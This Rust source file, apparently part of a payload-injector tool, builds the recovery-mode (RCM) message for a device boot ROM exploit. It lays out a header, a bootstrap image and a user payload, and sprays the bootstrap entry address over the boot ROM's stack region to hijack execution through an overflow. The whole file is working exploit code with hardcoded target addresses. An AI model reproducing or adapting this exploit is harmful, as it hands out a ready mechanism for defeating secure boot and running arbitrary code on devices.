//! RCM message construction.
//!
//! The message the boot ROM accepts is: a command header carrying the
//! maximum transfer length, the bootstrap image at the base of the target
//! buffer, the user payload at its fixed start address, and the bootstrap
//! entry address sprayed over the region the boot ROM's stack occupies when
//! the overflow fires. Everything is padded to whole transfer chunks.

use rb_core::ports::ExecError;
use rb_core::rcm;

/// Address the start of the message data is placed at on the target.
pub const RCM_PAYLOAD_ADDR: u32 = 0x4001_0000;
/// Address the user payload is expected to begin at.
pub const PAYLOAD_START_ADDR: u32 = 0x4001_0E40;
/// Range of addresses overwritten with the bootstrap entry point.
pub const STACK_SPRAY_START: u32 = 0x4001_4E40;
pub const STACK_SPRAY_END: u32 = 0x4001_7000;

/// RCM command header size in bytes.
pub const HEADER_SIZE: usize = 0x2A8;
/// Bulk transfer chunk size; each chunk lands in one of two DMA buffers.
pub const CHUNK_SIZE: usize = 0x1000;
/// The bootstrap must fit between the buffer base and the payload start.
pub const MAX_BOOTSTRAP_SIZE: usize = (PAYLOAD_START_ADDR - RCM_PAYLOAD_ADDR) as usize;

pub fn build_message(bootstrap: &[u8], payload: &[u8]) -> Result<Vec<u8>, ExecError> {
    if bootstrap.len() > MAX_BOOTSTRAP_SIZE {
        return Err(ExecError::BootstrapTooLarge {
            size: bootstrap.len(),
            max: MAX_BOOTSTRAP_SIZE,
        });
    }

    let payload_off = HEADER_SIZE + (PAYLOAD_START_ADDR - RCM_PAYLOAD_ADDR) as usize;
    let spray_off = HEADER_SIZE + (STACK_SPRAY_START - RCM_PAYLOAD_ADDR) as usize;
    let spray_len = (STACK_SPRAY_END - STACK_SPRAY_START) as usize;

    let mut message = Vec::with_capacity(rcm::MAX_MESSAGE_SIZE);

    // command header: little-endian maximum length, zero-padded
    message.extend_from_slice(&(rcm::MAX_MESSAGE_SIZE as u32).to_le_bytes());
    message.resize(HEADER_SIZE, 0);

    // bootstrap at the buffer base; it relocates the payload once it runs
    message.extend_from_slice(bootstrap);
    message.resize(payload_off, 0);

    // payload head up to the spray window, then the entry address spray,
    // then the rest of the payload
    let split = payload.len().min(spray_off - payload_off);
    message.extend_from_slice(&payload[..split]);
    message.resize(spray_off, 0);
    for _ in 0..spray_len / 4 {
        message.extend_from_slice(&RCM_PAYLOAD_ADDR.to_le_bytes());
    }
    message.extend_from_slice(&payload[split..]);

    // pad to a whole number of chunks
    let partial = message.len() % CHUNK_SIZE;
    if partial != 0 {
        message.resize(message.len() + CHUNK_SIZE - partial, 0);
    }

    if message.len() > rcm::MAX_MESSAGE_SIZE {
        return Err(ExecError::MessageTooLarge {
            size: message.len(),
            max: rcm::MAX_MESSAGE_SIZE,
        });
    }
    Ok(message)
}
